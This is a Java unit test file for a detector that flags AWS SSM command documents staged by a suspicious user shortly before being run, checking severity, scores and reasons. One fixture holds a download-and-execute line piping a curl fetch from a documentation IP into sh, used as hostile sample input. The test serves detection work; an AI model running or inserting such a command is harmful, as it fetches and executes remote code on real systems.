package io.runwatch.core.detect.scope;

import static io.runwatch.core.detect.scope.Contexts.context;
import static io.runwatch.core.detect.scope.Contexts.sendCommand;
import static org.assertj.core.api.Assertions.assertThat;

import io.runwatch.core.detect.DetectorHit;
import io.runwatch.core.detect.Severity;
import io.runwatch.core.model.AdminCommand;
import io.runwatch.core.model.Operation;
import io.runwatch.core.model.Principal;
import io.runwatch.core.model.PrincipalKind;
import io.runwatch.core.policy.Policy;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class StagingDetectorTest {
  private static final StagingDetector DETECTOR = new StagingDetector();
  private static final Principal MALLORY =
      new Principal(
          "arn:aws:iam::111122223333:user/mallory", "mallory", PrincipalKind.HUMAN, null, null);

  @Test
  void namesWhoStagedItHowLongBeforeAndScoresProximity() {
    AdminCommand staged = create("Diag-Collect", "2025-03-04T03:00:00Z", null, "echo ok");
    AdminCommand run = sendCommand("2025-03-04T03:12:00Z").document("Diag-Collect").build();

    DetectorHit hit = evaluate(run, staged);

    assertThat(hit.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(hit.reason()).contains("Diag-Collect", "mallory created", "12 minutes before");
    assertThat(hit.score()).isEqualTo(60); // 50 + round(10 · (1 − 12 min / 24 h))
    assertThat(hit.facts())
        .containsEntry("stagedBy", MALLORY.id())
        .containsEntry("gap", "PT12M")
        .containsEntry("attack", "TA0002:T1651");
  }

  @Test
  void theNewestStagingCountsAndItsContentDecidesTheSeverity() {
    AdminCommand older =
        create("Diag-Collect", "2025-03-04T01:00:00Z", null, "curl -s http://203.0.113.9/x | sh");
    AdminCommand newer = create("Diag-Collect", "2025-03-04T03:00:00Z", null, "uptime");
    AdminCommand run = sendCommand("2025-03-04T03:12:00Z").document("Diag-Collect").build();

    assertThat(evaluate(run, older, newer).severity()).isEqualTo(Severity.MEDIUM);
    assertThat(evaluate(run, newer, older).severity()).isEqualTo(Severity.MEDIUM);
    assertThat(evaluate(run, older).severity()).isEqualTo(Severity.HIGH);
    assertThat(evaluate(run, older).reason()).contains("download-execute", "203.0.113.9");
  }

  @Test
  void aDocumentIsTheSameOnlyByNameAccountAndRegion() {
    AdminCommand otherRegion =
        create("Diag-Collect", "2025-03-04T03:00:00Z", "eu-west-1", "uptime");
    AdminCommand otherName = create("Diag-Collect2", "2025-03-04T03:00:00Z", null, "uptime");
    AdminCommand run =
        sendCommand("2025-03-04T03:12:00Z")
            .region("us-east-1")
            .document("arn:aws:ssm:us-east-1:111122223333:document/Diag-Collect")
            .build();

    assertThat(
            DETECTOR.evaluate(
                context(run, null, Policy.defaults(), List.of(otherRegion), List.of())))
        .isEmpty();
    assertThat(
            DETECTOR.evaluate(context(run, null, Policy.defaults(), List.of(otherName), List.of())))
        .isEmpty();
  }

  @Test
  void documentArnsNameTheirAccountAndRegion() {
    AdminCommand run =
        sendCommand("2025-03-04T03:12:00Z")
            .document("arn:aws:ssm:us-east-1:444455556666:document/Shared-Doc")
            .build();

    StagingDetector.DocRef ref = StagingDetector.DocRef.of(run);

    assertThat(ref)
        .isEqualTo(new StagingDetector.DocRef("Shared-Doc", "444455556666", "us-east-1"));
    assertThat(
            StagingDetector.DocRef.of(sendCommand("2025-03-04T03:12:00Z").document(null).build()))
        .isNull();
  }

  @Test
  void stagedInTheSameSecondStillCounts() {
    AdminCommand staged = create("Diag-Collect", "2025-03-04T03:12:00Z", null, "uptime");
    AdminCommand run = sendCommand("2025-03-04T03:12:00Z").document("Diag-Collect").build();

    assertThat(evaluate(run, staged).reason()).contains("0 seconds before");
  }

  private static DetectorHit evaluate(AdminCommand run, AdminCommand... history) {
    return DETECTOR
        .evaluate(context(run, null, Policy.defaults(), List.of(history), List.of()))
        .orElseThrow();
  }

  private static AdminCommand create(String name, String time, String region, String script) {
    return AdminCommand.builder()
        .account(Contexts.ACCOUNT)
        .region(region)
        .operation(Operation.CREATE_DOCUMENT)
        .eventName("CreateDocument")
        .principal(MALLORY)
        .document(name)
        .content(script)
        .time(Instant.parse(time))
        .eventId("create-" + time + name + region)
        .build();
  }
}
